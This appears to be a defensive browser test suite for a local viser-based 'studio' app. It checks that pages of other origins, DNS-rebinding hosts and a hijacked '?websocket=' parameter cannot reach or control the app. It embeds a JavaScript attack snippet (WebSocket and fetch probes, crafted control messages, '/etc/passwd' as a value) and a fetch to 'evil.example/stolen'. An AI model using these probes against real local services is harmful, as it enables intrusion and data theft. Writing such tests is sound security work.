"""Pages of other origins, open in the browser of who runs the studio: they try what a page can try, and do nothing."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace
from typing import Any
from urllib.parse import urlsplit

import pytest

from browsers import BROWSER, PATIENCE, SOFTWARE, playwright
from sessions import served

pytestmark = pytest.mark.campaign  # without a browser: test_studio_door.py
viser = pytest.importorskip("viser", reason="the extra `studio` is not installed")

EVIL = "evil.example"  # A name that its owner points at this machine, as in DNS rebinding

GUESSES = ["", "/", "/index.html", "/token", "/?token=", "/?websocket=", "/..", "/" + "A" * 32, "/null", "/undefined"]

ATTACK = """
async ({urls, protocol, bytes}) => {
  // Chromium lets sockets to a host that refused some wait for seconds: an open one opens at once.
  const later = (ms) => new Promise((done) => setTimeout(() => done("closed"), ms));
  const socket = (url) => new Promise((done) => {
    const line = new WebSocket(url.replace("http", "ws"), [protocol]);
    line.binaryType = "arraybuffer";
    line.onopen = () => { done("open"); for (const one of bytes) line.send(new Uint8Array(one)); };
    line.onclose = () => done("closed");
  });
  const read = async (url) => {
    try { const got = await fetch(url, {credentials: "include"}); return got.ok ? "read" : "refused"; }
    catch { return "refused"; }
  };
  const tag = (name, key, url) => new Promise((done) => {
    const one = document.createElement(name);
    one.onload = () => done("loaded"); one.onerror = () => done("refused");
    one[key] = url; document.body.append(one);
  });
  const frame = (url) => new Promise((done) => {
    const one = document.createElement("iframe");
    one.src = url; one.name = "framed"; document.body.append(one); setTimeout(() => done("framed"), 50);
  });
  const all = async (url) => {
    navigator.sendBeacon(url, "x");
    fetch(url, {method: "POST", mode: "no-cors", body: "x"}).catch(() => null);
    return Promise.all([
      Promise.race([socket(url), later(1000)]), read(url), tag("script", "src", url), tag("img", "src", url), frame(url)
    ]);
  };
  return Promise.all(urls.map(all));
}
"""


@pytest.fixture(scope="module")
def scene() -> Iterator[Any]:
    """A studio; a browser with its page; and a server of another origin, whose pages hold nothing."""
    import msgspec

    asked: list[tuple[str, str | None]] = []

    class Blank(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append((self.path, self.headers.get("Upgrade")))
            body = b"<!doctype html><title>attack</title><body></body>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    others = ThreadingHTTPServer(("127.0.0.1", 0), Blank)
    threading.Thread(target=others.serve_forever, daemon=True).start()
    flags = [*SOFTWARE, f"--host-resolver-rules=MAP {EVIL} 127.0.0.1"]
    with served() as studio, playwright.sync_playwright() as driver:
        panels = studio.page.panels
        wanted = [(panels.cycles, 1e308), (panels.job, "/etc/passwd"), (panels.open, True), (panels.start, True)]
        said = [
            {"type": "GuiUpdateMessage", "uuid": control._impl.uuid, "updates": {"value": value}}
            for control, value in wanted
        ]
        browser = driver.chromium.launch(executable_path=BROWSER, args=flags)
        context = browser.new_context(viewport={"width": 800, "height": 500})
        context.set_default_timeout(PATIENCE)
        own, problems = context.new_page(), []
        own.on("console", lambda message: problems.append(message.text) if message.type == "error" else None)
        own.goto(f"{studio.url}?fixedDpr=0.3")
        own.get_by_role("button", name="Start", exact=True).wait_for()
        yield SimpleNamespace(
            studio=studio, session=studio.session, context=context, own=own, problems=problems, asked=asked,
            said=[list(msgspec.msgpack.encode(one)) for one in said], port=others.server_port,
            url=urlsplit(studio.url),
        )  # fmt: skip
        browser.close()
    others.shutdown()


def state(scene: Any) -> tuple[Any, ...]:
    """All that a page can change."""
    snap, panels = scene.session.snapshot(), scene.studio.page.panels
    return snap.number, snap.phase, snap.cycles, panels.job.value, panels.cycles.value, scene.studio.page.message


def attacked(scene: Any, page: Any, names: list[str], paths: list[str]) -> None:
    """Let a page try everything at all names of the studio with some paths: nothing is opened, read, shown or moved."""
    urls = [f"http://{name}:{scene.url.port}{path}" for name in names for path in paths]
    before, clients = state(scene), set(scene.studio.server.get_clients())
    found = page.evaluate(ATTACK, {"urls": urls, "protocol": f"viser-v{viser.__version__}", "bytes": scene.said})
    nothing = ["closed", "refused", "refused", "refused", "framed"]
    assert dict(zip(urls, found, strict=True)) == dict.fromkeys(urls, nothing)
    for frame in page.frames[1:]:  # what was framed is empty, or a refusal
        assert "viser" not in frame.content().lower(), frame.url
    assert state(scene) == before and set(scene.studio.server.get_clients()) == clients


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", EVIL])
def test_a_page_of_another_origin_does_nothing_without_the_token(scene: Any, host: str) -> None:
    page = scene.context.new_page()
    page.goto(f"http://{host}:{scene.port}/")
    attacked(scene, page, ["localhost", "127.0.0.1", EVIL], GUESSES)
    page.close()


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", EVIL])
def test_nor_does_it_where_it_knows_the_token(scene: Any, host: str) -> None:
    """The origin alone keeps it out: the token was read from a terminal that is shared, as in a lecture."""
    page = scene.context.new_page()
    page.goto(f"http://{host}:{scene.port}/")
    attacked(scene, page, ["localhost", "127.0.0.1", EVIL], [scene.url.path, scene.url.path.rstrip("/")])
    page.close()


def test_a_name_that_is_pointed_at_this_machine_does_nothing(scene: Any) -> None:
    """After DNS rebinding the attacker's page and the studio are one origin to a browser; the host tells them apart."""
    page = scene.context.new_page()
    answer = page.goto(f"http://{EVIL}:{scene.url.port}{scene.url.path}")
    assert answer.status == 403 and page.evaluate("location.host") == f"{EVIL}:{scene.url.port}"
    attacked(scene, page, [EVIL], [*GUESSES, scene.url.path])
    page.close()


def test_the_page_cannot_be_joined_to_the_server_of_somebody_else(scene: Any) -> None:
    """viser's page takes its server from `?websocket=`, and runs what that server says."""
    page = scene.context.new_page()
    with page.expect_worker() as worker:  # which makes the connection
        page.goto(f"{scene.studio.url}?websocket=ws://{EVIL}:{scene.port}/")
    with pytest.raises(playwright.Error, match="Failed to fetch"):
        worker.value.evaluate(f"fetch('http://{EVIL}:{scene.port}/stolen')")
    page.wait_for_timeout(1000)
    assert scene.asked and not [path for path, upgrade in scene.asked if upgrade or "stolen" in path]
    page.close()


def test_a_window_opened_by_another_page_is_out_of_its_reach(scene: Any) -> None:
    page = scene.context.new_page()
    page.goto(f"http://localhost:{scene.port}/")
    with scene.context.expect_page() as opened:
        page.evaluate("url => { window.other = window.open(url); }", scene.studio.url)
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("window.opener") is None
    assert page.evaluate("window.other.closed")  # so it seems from there: they are cut apart
    opened.value.close()
    page.close()


def test_after_all_this_the_studio_works_for_its_own_page_as_before(scene: Any) -> None:
    scene.session.set_speed(1000.0)
    assert scene.own.url == f"{scene.studio.url}?fixedDpr=0.3"
    scene.own.get_by_role("button", name="Start", exact=True).click()
    scene.own.get_by_text("Done: 10 cycles.").first.wait_for()
    assert scene.session.snapshot().phase.value == "done"
    assert scene.problems == []
